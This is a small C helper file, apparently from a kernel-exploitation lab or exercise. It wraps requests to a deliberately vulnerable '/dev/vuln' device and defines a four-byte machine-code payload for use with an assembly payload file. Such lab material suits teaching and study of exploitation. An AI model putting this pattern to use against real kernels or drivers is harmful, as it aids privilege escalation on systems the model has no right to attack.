// Talking to /dev/vuln.
#include "exploit.h"

const int control_number = SYS_CONTROL; // for payloads.S
const unsigned char moved_payload[4] = {0x8c, 0xc8, 0xc3, 0x90};

static int request(unsigned operation, struct vuln_request content) {
    int device = open("/dev/vuln");
    int result = control(device, operation, (uintptr_t)&content);
    close(device);
    return result;
}

int vuln(unsigned operation, unsigned address, unsigned value) {
    return request(operation, (struct vuln_request){address, value, 0});
}

int vuln_copy(unsigned operation, const void *from, unsigned length) {
    return request(operation, (struct vuln_request){(uintptr_t)from, 0, length});
}
